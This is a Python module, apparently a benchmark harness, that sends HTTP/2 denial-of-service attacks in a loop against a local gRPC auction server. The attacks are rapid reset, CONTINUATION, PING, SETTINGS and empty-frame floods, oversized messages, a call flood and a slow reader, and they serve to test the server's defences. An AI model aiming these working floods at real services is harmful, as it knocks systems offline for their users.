# What a peer may try on the wire, again and again as fast as it is let, by a process of its own.
#
#   python -m benchmarks.attacks NAME PORT      says {} once it has tried; ends when it is told to
#
# The bounds that each meets are in docs/wire.md; here is only what is said.

from __future__ import annotations

import os
import socket
import struct
import sys
import time
from collections.abc import Callable
from typing import Final

from auction.edge.wire import frames
from auction.edge.wire.fields import block
from auction.edge.wire.frames import ACK, END_HEADERS, END_STREAM, Code, Setting

# Frames of a flood: twice what is suffered in a second.
FLOOD: Final = 2_000

# Seconds for which an answer is waited for, and for what is said to be taken.
PATIENCE_S: Final = 0.5
# Seconds for which a socket is left unread, until there is another: a turn beside a neighbour.
UNREAD_S: Final = 2.0

# Calls whose answers are more than system and exchange together hold for who does not read: some seven megabytes.
SWALLOWED: Final = 100_000

AUCTION: Final = "/auction.v1.Exchange/Auction"
HEALTH: Final = "/grpc.health.v1.Health/Check"  # answered at once, and no auction


def frame(kind: int, payload: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    return frames.head(len(payload), kind, flags, stream) + payload


def request(path: str) -> bytes:
    """Write the header block of a call."""
    pseudo = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"x")]
    return block([*pseudo, (b"content-type", b"application/grpc"), (b"te", b"trailers")])


def opened(stream: int, flags: int = END_HEADERS, path: str = AUCTION) -> bytes:
    return frame(frames.HEADERS, request(path), flags, stream)


def calls(count: int) -> bytes:
    """Write calls that are answered at once."""
    return b"".join(
        opened(stream, path=HEALTH) + frame(frames.DATA, bytes(5), END_STREAM, stream)
        for stream in range(1, 2 * count, 2)
    )


def large(stream: int) -> bytes:
    """Write the beginning of a message of eight megabytes."""
    return opened(stream) + frame(frames.DATA, struct.pack(">BI", 0, 8_388_608) + bytes(16_000), 0, stream)


GREETING: Final = frames.PREFACE + frames.settings({}) + frame(frames.SETTINGS, flags=ACK)
OPEN_WIDE: Final = frames.settings({Setting.INITIAL_WINDOW_SIZE: 2**31 - 1}) + frames.window_update(0, 2**31 - 65_536)

ATTACKS: Final[dict[str, Callable[[], bytes]]] = {
    "rapid_reset": lambda: b"".join(
        opened(stream) + frames.rst_stream(stream, Code.CANCEL) for stream in range(1, 2 * FLOOD, 2)
    ),
    "continuation_flood": lambda: opened(1, 0) + frame(frames.CONTINUATION, b"", 0, 1) * FLOOD,
    "ping_flood": lambda: frame(frames.PING, b"12345678") * FLOOD,
    "settings_flood": lambda: frames.settings({}) * FLOOD,
    "empty_frame_flood": lambda: opened(1) + frame(frames.DATA, b"", 0, 1) * FLOOD,
    "oversized_messages": lambda: b"".join(large(stream) for stream in range(1, 200, 2)),
    "call_flood": lambda: OPEN_WIDE + calls(4_000),
    "slow_reader": lambda: OPEN_WIDE + calls(SWALLOWED),
}
# Which of them do not even read what they are told.
SILENT: Final = frozenset({"slow_reader"})


def attempt(port: int, octets: bytes, reading: bool) -> None:
    """Say all that on a connection of its own, until it is ended or patience is."""
    with socket.socket() as connection:
        if not reading:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
        connection.settimeout(PATIENCE_S)  # also of being read from no more
        try:
            connection.connect(("127.0.0.1", port))
            left = memoryview(octets)
            while left:
                left = left[connection.send(left) :]  # gives up once nothing is taken any more
            connection.shutdown(socket.SHUT_WR)
            while reading and connection.recv(65_536):
                pass
            if not reading:
                time.sleep(UNREAD_S)  # the attack: connected, and not reading
        except OSError:
            pass  # which is what it was to come to


def main() -> None:
    name, port = sys.argv[1], int(sys.argv[2])
    os.nice(19)  # it shares a core with the neighbour, whose clock must not wait for it
    octets = GREETING + ATTACKS[name]()
    attempt(port, octets, name not in SILENT)
    print("{}", flush=True)
    while True:
        attempt(port, octets, name not in SILENT)


if __name__ == "__main__":
    main()
